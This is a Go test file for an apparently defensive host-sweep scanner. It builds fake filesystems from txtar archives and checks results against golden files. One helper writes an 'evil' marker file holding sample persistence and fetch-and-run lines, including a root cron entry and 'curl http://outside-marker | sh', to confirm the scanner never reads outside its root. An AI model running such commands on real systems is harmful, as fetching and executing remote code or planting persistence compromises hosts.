package sweep

import (
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-sec/airlock/internal/model"
)

var update = flag.Bool("update", false, "rewrite testdata/hosts/*.golden")

// A fake host is written as a txtar archive (the format of
// golang.org/x/tools/txtar, read here in a few lines): a comment with
// directives, then files, each after a "-- path --" line, path relative
// to the root. Directives, one per comment line:
//
//	now RFC3339              the sweep's Options.Now
//	roots /a /b              Options.Roots
//	homes /a /b              Options.Homes
//	mtime PATH RFC3339       a file's modification time (default: 2025-06-01)
//	symlink PATH -> TARGET   a symbolic link
//	fifo PATH                a named pipe
//	mode PATH 0755           permissions
//
// In file content, {{record PATH}} becomes the RECORD hash and size of the
// archive file PATH ("sha256=…,123"), {{md5 PATH}} and {{sha256 PATH}}
// its hex digests.
type hostSpec struct {
	now          time.Time
	roots, homes []string
	files        map[string][]byte
	order        []string
	mtimes       map[string]time.Time
	links        [][2]string
	fifos        []string
	modes        map[string]os.FileMode
}

var defaultMtime = time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)

func parseHost(t testing.TB, data []byte) *hostSpec {
	t.Helper()
	h := &hostSpec{files: map[string][]byte{}, mtimes: map[string]time.Time{}, modes: map[string]os.FileMode{}, now: time.Date(2026, 3, 25, 12, 0, 0, 0, time.UTC)}
	var comment []string
	var name string
	var cur []byte
	inFile := false
	flush := func() {
		if inFile {
			h.files[name] = cur
			h.order = append(h.order, name)
		}
	}
	for _, line := range strings.SplitAfter(string(data), "\n") {
		s := strings.TrimRight(line, "\r\n")
		if strings.HasPrefix(s, "-- ") && strings.HasSuffix(s, " --") && len(s) > 6 {
			flush()
			name, cur, inFile = strings.TrimSpace(s[3:len(s)-3]), nil, true
			continue
		}
		if inFile {
			cur = append(cur, line...)
		} else {
			comment = append(comment, s)
		}
	}
	flush()
	for _, c := range comment {
		f := strings.Fields(c)
		if len(f) == 0 || strings.HasPrefix(f[0], "#") {
			continue
		}
		var err error
		switch f[0] {
		case "now":
			h.now, err = time.Parse(time.RFC3339, f[1])
		case "roots":
			h.roots = f[1:]
		case "homes":
			h.homes = f[1:]
		case "mtime":
			h.mtimes[f[1]], err = time.Parse(time.RFC3339, f[2])
		case "symlink":
			h.links = append(h.links, [2]string{f[1], f[3]})
		case "fifo":
			h.fifos = append(h.fifos, f[1])
		case "mode":
			var m uint64
			_, err = fmt.Sscanf(f[2], "%o", &m)
			h.modes[f[1]] = os.FileMode(m)
		default:
			// free text
		}
		if err != nil {
			t.Fatalf("directive %q: %v", c, err)
		}
	}
	return h
}

var placeholder = regexp.MustCompile(`\{\{(record|md5|sha256) ([^}]+)\}\}`)

// build writes the host below a new temporary directory and returns it.
func (h *hostSpec) build(t testing.TB) string {
	t.Helper()
	root := t.TempDir()
	for _, name := range h.order {
		data := placeholder.ReplaceAllFunc(h.files[name], func(m []byte) []byte {
			sm := placeholder.FindSubmatch(m)
			ref, ok := h.files[string(sm[2])]
			if !ok {
				t.Fatalf("%s: placeholder refers to missing file %q", name, sm[2])
			}
			switch string(sm[1]) {
			case "record":
				sum := sha256.Sum256(ref)
				return []byte(fmt.Sprintf("sha256=%s,%d", base64.RawURLEncoding.EncodeToString(sum[:]), len(ref)))
			case "md5":
				sum := md5.Sum(ref)
				return []byte(hex.EncodeToString(sum[:]))
			default:
				sum := sha256.Sum256(ref)
				return []byte(hex.EncodeToString(sum[:]))
			}
		})
		p := filepath.Join(root, filepath.FromSlash(name))
		if strings.HasSuffix(name, "/") {
			mustDo(t, os.MkdirAll(p, 0o755))
			continue
		}
		mustDo(t, os.MkdirAll(filepath.Dir(p), 0o755))
		mustDo(t, os.WriteFile(p, data, 0o644))
	}
	for _, l := range h.links {
		p := filepath.Join(root, filepath.FromSlash(l[0]))
		mustDo(t, os.MkdirAll(filepath.Dir(p), 0o755))
		target := l[1]
		if target == "$OUTSIDE" || strings.HasPrefix(target, "$OUTSIDE/") {
			target = filepath.Join(outsideDir(t), strings.TrimPrefix(target, "$OUTSIDE"))
		} else if strings.Contains(target, "$OUTSIDE") {
			target = strings.ReplaceAll(target, "$OUTSIDE", outsideDir(t))
		}
		mustDo(t, os.Symlink(target, p))
	}
	for _, f := range h.fifos {
		p := filepath.Join(root, filepath.FromSlash(f))
		mustDo(t, os.MkdirAll(filepath.Dir(p), 0o755))
		mustDo(t, syscall.Mkfifo(p, 0o644))
	}
	// mtimes last: writing into a directory changes its mtime
	mustDo(t, filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || fi.Mode()&os.ModeSymlink != 0 {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		mt, ok := h.mtimes[filepath.ToSlash(rel)]
		if !ok {
			mt = defaultMtime
		}
		return os.Chtimes(p, mt, mt)
	}))
	for name, m := range h.modes {
		mustDo(t, os.Chmod(filepath.Join(root, filepath.FromSlash(name)), m))
	}
	return root
}

var outsideDirs = map[testing.TB]string{}

// outsideDir is a directory outside every fake root, holding a file the
// sweep must never read.
func outsideDir(t testing.TB) string {
	if d, ok := outsideDirs[t]; ok {
		return d
	}
	d := t.TempDir()
	mustDo(t, os.WriteFile(filepath.Join(d, "evil"), []byte("ExecStart=/tmp/outside-marker\n* * * * * root /tmp/outside-marker\ncurl http://outside-marker | sh\nimport os; os.system('outside-marker')\n"), 0o644))
	outsideDirs[t] = d
	t.Cleanup(func() { delete(outsideDirs, t) })
	return d
}

func mustDo(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// sweepHost builds a host from a txtar file and sweeps it.
func sweepHost(t testing.TB, file string, adjust func(*Options)) *Result {
	t.Helper()
	data, err := os.ReadFile(file)
	mustDo(t, err)
	return sweepSpec(t, parseHost(t, data), adjust)
}

func sweepSpec(t testing.TB, h *hostSpec, adjust func(*Options)) *Result {
	t.Helper()
	root := h.build(t)
	opt := Options{Root: root, Now: h.now, Roots: h.roots, Homes: h.homes}
	if adjust != nil {
		adjust(&opt)
	}
	res, err := Sweep(context.Background(), opt)
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// render is the golden form of a result.
func render(r *Result) string {
	var b bytes.Buffer
	for _, e := range r.Environments {
		fmt.Fprintf(&b, "environment %s %s %s (%d packages)\n", e.Ecosystem, e.Kind, e.Path, len(e.Packages))
		for _, p := range e.Packages {
			fmt.Fprintf(&b, "  %s %s %s\n", p.Name, p.Version, p.Path)
		}
	}
	for _, res := range r.Results {
		fmt.Fprintf(&b, "result %s %s %s verdict=%s score=%d\n", res.Kind, res.Ecosystem, res.Name, res.Verdict, res.Score)
		for _, f := range res.Findings {
			fmt.Fprintf(&b, "  [%s] %s %s:%d\n    %s\n", f.Severity, f.Rule, f.Path, f.Line, f.Message)
			if f.Evidence != "" {
				fmt.Fprintf(&b, "    evidence: %s\n", f.Evidence)
			}
		}
	}
	for _, d := range r.Diagnostics {
		fmt.Fprintf(&b, "diagnostic %s\n", d)
	}
	return b.String()
}

// renderStable is render with the per-test outside directory shown as
// $OUTSIDE.
func renderStable(t testing.TB, r *Result) string {
	out := render(r)
	if d, ok := outsideDirs[t]; ok {
		out = strings.ReplaceAll(out, d, "$OUTSIDE")
	}
	return out
}

func TestHostsGolden(t *testing.T) {
	files, err := filepath.Glob("testdata/hosts/*.txtar")
	mustDo(t, err)
	if len(files) == 0 {
		t.Fatal("no testdata/hosts/*.txtar")
	}
	for _, file := range files {
		name := strings.TrimSuffix(filepath.Base(file), ".txtar")
		t.Run(name, func(t *testing.T) {
			got := renderStable(t, sweepHost(t, file, nil))
			golden := strings.TrimSuffix(file, ".txtar") + ".golden"
			if *update {
				mustDo(t, os.WriteFile(golden, []byte(got), 0o644))
				return
			}
			want, err := os.ReadFile(golden)
			mustDo(t, err)
			if got != string(want) {
				t.Errorf("output differs from %s (run go test -run TestHostsGolden -update):\n--- got\n%s\n--- want\n%s", golden, got, want)
			}
		})
	}
}

// findings flattens the findings of a result.
func findings(r *Result) []model.Finding {
	var out []model.Finding
	for _, res := range r.Results {
		out = append(out, res.Findings...)
	}
	return out
}
